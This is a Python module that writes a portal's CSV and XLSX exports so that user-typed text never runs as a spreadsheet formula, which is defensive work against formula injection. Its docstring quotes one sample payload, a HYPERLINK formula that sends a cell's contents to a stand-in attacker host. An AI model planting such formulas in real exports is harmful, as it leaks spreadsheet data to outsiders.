"""Spreadsheet exports, CSV and XLSX, in one place: text never runs as a formula.

A spreadsheet treats a cell that starts with `=`, `+`, `-` or `@` (and, in some
programs, a tab or carriage return) as a formula. Names and wards are typed by
partner managers, so a point named `=HYPERLINK("http://evil.example/?"&B2)` would
run in the center's spreadsheet. In CSV such text gets a leading apostrophe, which
spreadsheets show as plain text. In XLSX every text is written as a string cell
(never a formula, never a link), and one that starts like a formula also carries
Excel's own "quote prefix" mark, so editing the cell keeps it text. Numbers stay
numbers: a count of -1 is a number, not text, and is written as one.

Every export of the portal writes through here (dashboards, coverage, the payments
settlement): `SafeCsvWriter` for CSV, `SafeXlsxWriter` for XLSX (XlsxWriter in
constant_memory mode: rows go to a file one by one, in order, with a flat memory use,
whatever the count; docs/decisions/0035-exports-and-public-figures.md).
"""

from __future__ import annotations

import csv
import os
import tempfile
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import IO, Any

import xlsxwriter

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# Excel's sheet holds 1,048,576 rows; the first is the header.
XLSX_MAX_DATA_ROWS = 1_048_575
XLSX_MEDIA_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_MEDIA_TYPE = "text/csv; charset=utf-8"
# Excel reads a CSV file without a byte-order mark in the machine's legacy code page
# (Vietnamese turns into mojibake); with it, Excel and every other reader take UTF-8.
UTF8_BOM = "\ufeff"


def safe_cell(value: object) -> object:
    """The value to write into a CSV cell: text that would start a formula is neutralised, anything else is kept."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def safe_row(values: Iterable[object]) -> list[object]:
    return [safe_cell(value) for value in values]


class SafeCsvWriter:
    """`csv.writer` whose every row goes through `safe_row`."""

    def __init__(self, out: IO[str], **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[object]) -> Any:
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


class XlsxTooManyRows(ValueError):
    """More rows than one sheet holds (XLSX_MAX_DATA_ROWS)."""


class SafeXlsxWriter:
    """One sheet written row by row into `path` (XlsxWriter constant_memory); `close()` finishes the file.

    Cells by type: text as a string cell (quote-prefixed when it starts like a formula), whole
    numbers and decimals as numbers, dates and datetimes as ISO text (as in the CSV), None as an empty cell. The
    first row written is taken as the header (bold, frozen). Use as a context manager.
    """

    def __init__(self, path: str | Path, sheet: str = "Sheet1") -> None:
        self.path = Path(path)
        self._book = xlsxwriter.Workbook(
            str(self.path),
            {
                "constant_memory": True,
                "strings_to_formulas": False,
                "strings_to_urls": False,
                "strings_to_numbers": False,
            },
        )
        self._sheet = self._book.add_worksheet(sheet[:31])
        self._header = self._book.add_format({"bold": True})
        self._quoted = self._book.add_format({"quote_prefix": True})
        self.rows = 0  # written so far, the header included
        self._widths: list[int] = []

    def writerow(self, row: Iterable[object]) -> None:
        if self.rows > XLSX_MAX_DATA_ROWS:
            raise XlsxTooManyRows(f"a sheet holds at most {XLSX_MAX_DATA_ROWS} rows under its header")
        r, sheet = self.rows, self._sheet
        for c, value in enumerate(row):
            if r == 0:
                sheet.write_string(r, c, str(value), self._header)
                self._widths.append(min(max(len(str(value)) + 2, 10), 40))
            elif value is None or value == "":
                continue
            elif isinstance(value, bool):
                sheet.write_boolean(r, c, value)
            elif isinstance(value, int | float | Decimal):
                sheet.write_number(r, c, float(value))
            else:
                # Dates as ISO text, exactly as the CSV of the same table says them.
                text = value.isoformat() if isinstance(value, date | datetime) else str(value)
                sheet.write_string(r, c, text, self._quoted if text.startswith(FORMULA_TRIGGERS) else None)
        if r == 0:
            # constant_memory: widths and the frozen header must be set before row 1 is written.
            for c, width in enumerate(self._widths):
                sheet.set_column(c, c, width)
            sheet.freeze_panes(1, 0)
        self.rows += 1

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)

    def close(self) -> None:
        self._book.close()

    def __enter__(self) -> SafeXlsxWriter:
        return self

    def __exit__(self, *exc: object) -> None:
        self.close()


def xlsx_bytes(header: Sequence[str], rows: Iterable[Iterable[object]], *, sheet: str = "Sheet1") -> bytes:
    """A small sheet as bytes, for a response (XLSX is a zip: it is finished before it can be sent)."""
    handle, name = tempfile.mkstemp(suffix=".xlsx")
    os.close(handle)
    try:
        with SafeXlsxWriter(name, sheet) as writer:
            writer.writerow(header)
            writer.writerows(rows)
        return Path(name).read_bytes()
    finally:
        os.unlink(name)


def csv_text(header: Sequence[str], rows: Iterable[Iterable[object]]) -> str:
    """A small CSV as text, with the byte-order mark Excel needs to read UTF-8."""
    import io

    out = io.StringIO()
    out.write(UTF8_BOM)
    writer = SafeCsvWriter(out)
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue()
